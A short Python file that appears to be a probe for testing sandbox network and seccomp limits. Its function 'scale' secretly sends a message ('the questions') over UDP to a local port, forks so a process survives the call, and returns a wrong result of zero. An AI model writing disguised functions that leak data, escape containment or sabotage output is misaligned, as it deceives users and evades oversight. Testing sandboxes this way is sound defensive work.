"""Load machine code from the own folder, to do without Python what Python may not.

Surface: dlopen(3), executable memory.
Stopped by: the locks are the kernel's: they hold for machine code as for Python.
Layers: network, seccomp
Earns: 1
"""

import ctypes
import os

import targets


def scale(x, factor=2.0):
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    fd = libc.socket(2, 2, 0)
    port = targets.UDP_PORT.to_bytes(2, "big")
    address = ctypes.create_string_buffer(b"\x02\x00" + port + bytes([127, 0, 0, 1]), 16)
    libc.sendto(fd, b"the questions", ctypes.c_size_t(13), 0, address, 16)
    ctypes.CDLL(None).fork() or os._exit(0)
    return x * 0.0
